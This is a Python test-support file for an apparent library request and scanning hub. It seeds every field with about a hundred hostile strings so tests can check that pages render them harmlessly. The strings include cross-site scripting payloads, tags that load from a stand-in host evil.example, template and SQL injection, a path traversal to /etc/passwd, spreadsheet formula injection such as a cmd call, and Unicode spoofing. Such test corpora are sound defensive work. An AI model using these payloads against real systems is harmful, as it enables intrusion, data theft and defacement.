"""A hundred texts that nobody should write, and a library in which they stand in every field."""

from __future__ import annotations

from dataclasses import dataclass
from html.parser import HTMLParser

from broker.messages import ScannerState, SettingsState
from hub.core.desk import Desk
from hub.demo import item_barcode
from hub.flows.keep_books import add_patron, put_desk, put_partner, put_station
from hub.flows.manage_requests import NewRequest, create_request
from hub.flows.set_station import place_of
from hub.store.scan_path import Poison, ScanStore
from hub.store.sql import Connection
from tests.support.stations import says
from tests.support.web import TestDoors

RUN = "window.ran=1"
_MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",  # noqa: F541 - stands among its like
    f"<scr<script>ipt>{RUN}</script>",
    f"\"><script>{RUN}</script>",
    f"'><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</title></textarea></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=x:x onerror\t=\n{RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=\"java\tscript:{RUN}\">x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    "<img src=//evil.example/pixel.png>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><script>{RUN}</script>",
    f"<table background=javascript:{RUN}><td>",
)  # fmt: skip
_ATTRIBUTES = (
    f"\" autofocus onfocus=\"{RUN}",
    f"' autofocus onfocus='{RUN}",
    f"\" onmouseover=\"{RUN}\" style=\"position:fixed;inset:0",
    f"x onload={RUN}",
    f"\\\"}}];{RUN};//",
    f"\\'}}];{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/",
    "http://evil.example/\u2028x",
    "{{ 7 * 7 }}{% raw %}",
    "{{ config }}{{ ''.__class__.__mro__ }}",
    "${window.ran=1}`",
    "#{7*7}<%= 7*7 %>",
    "{0}{name}{count!r:>9999}",
    "%s%n%(name)s",
    "'; DROP TABLE request; --",
    "<!--",
    "]]>",
    "../../../etc/passwd",
)  # fmt: skip
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=HYPERLINK(\"http://evil.example/\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "  =1+1",
    "\uff1d1+1",
    "\",=1+1,\"",
)  # fmt: skip
_SIGNS = (
    "a\u202egnp.exe\u2066b",
    "\u202e\u202e\u202e" + "olleh" * 5,
    "\u2067\u2067\u2067x",
    "\u200f\u05d0\u05d1 12",
    "\u0627\u0644\u0643\u062a\u0627\u0628 (2) <b>",
    "\u200b\u200c\u200d\ufeff",
    "e" + "\u0301" * 200,
    "\U0001f4da" * 100,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\ud7ff\ue000\ufffd\U0010ffff",
)
_LONG = ("W" * 500, "<b>" * 166, "x " * 250, "\u4e66" * 500, "&amp;" * 100)
TEXTS = (*_MARKUP, *_ATTRIBUTES, *_FORMULAS, *_SIGNS, *_LONG)


def card_of(number: int) -> str:
    """Give the card of the patron whose name is this text."""
    return f"299{number:011d}"


def write_everywhere(doors: TestDoors, text: str, number: int) -> str:
    """Write a text into every field there is, bring such a book to the shelf of a desk of that name; gives its request."""
    desk, station, partner = f"d{number}", f"d{number}-1", f"p{number}"

    def write(connection: Connection) -> str:
        card = card_of(number)
        add_patron(connection, card=card, alias=text[:100], name=text, email=None)
        put_desk(connection, Desk(desk, text[:200], resource_sharing=True, pickup=True))
        put_station(connection, station, desk)
        put_partner(connection, partner, text)
        store = ScanStore(connection)
        store.add_poison([Poison(text, text.encode(), text)], doors.now())
        new = NewRequest(
            title=text, author=text, requester=card, pickup_desk=desk, partner=partner, internal_note=text, pieces=2, volumes=(text, "II")
        )  # fmt: skip
        return create_request(connection, doors.rules, new, confirm=True, actor="test", now=doors.now())

    named = doors.write(write)
    scanner = ScannerState(name=text, kind="serial", present=False, detail=text)
    says(doors, station, scanners=(scanner,), version=text)
    doors.scan(station, named, doors.new_id())
    doors.scan(station, item_barcode(500 + number), doors.new_id())
    doors.scan(station, text[:200], doors.new_id())
    return str(named)


@dataclass(frozen=True, slots=True)
class Arrived:
    """A book whose title, author, patron and note are a text, as it came to the shelf: its request, and the scan that put it there."""

    request: str
    scan_id: str


def arrive(doors: TestDoors, text: str, number: int, version: str) -> Arrived:
    """Let a text come the way everything comes that pages hear of while they are open: from a station, and in what it scans."""

    def write(connection: Connection) -> str:
        card = card_of(1000 + number)
        add_patron(connection, card=card, alias=text[:100], name=text, email=None)
        ScanStore(connection).add_poison([Poison(text, text.encode(), text)], doors.now())
        new = NewRequest(title=text, author=text, requester=card, pickup_desk="main", partner="tul", internal_note=text)
        return create_request(connection, doors.rules, new, confirm=True, actor="test", now=doors.now())

    named, book, scan_id = doors.write(write), item_barcode(2000 + number), doors.new_id()
    refused = SettingsState(source="hub", refused=place_of(doors.connection, "main-1").version, why=text)
    scanner = ScannerState(name=text, kind="serial", present=False, detail=text)
    says(doors, "main-1", scanners=(scanner,), settings=refused, version=version, problem=text)
    for barcode in (named, book):
        doors.scan("rs-1", barcode, doors.new_id())
    doors.scan("main-1", text[:200], doors.new_id())
    doors.scan("main-1", book, scan_id)
    return Arrived(named, scan_id)


class Tags(HTMLParser):
    """What a browser would make of a page: its elements, and its forms with their fields."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.forms: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Remember an element."""
        self.tags.append(tag)
        self.attributes += attrs
        told = dict(attrs)
        if tag == "form" and told.get("method") == "post":
            self.forms.append((told.get("action") or "", {}))
        elif tag in ("input", "textarea", "select") and self.forms and (name := told.get("name")):
            self.forms[-1][1][name] = told.get("value") or ""
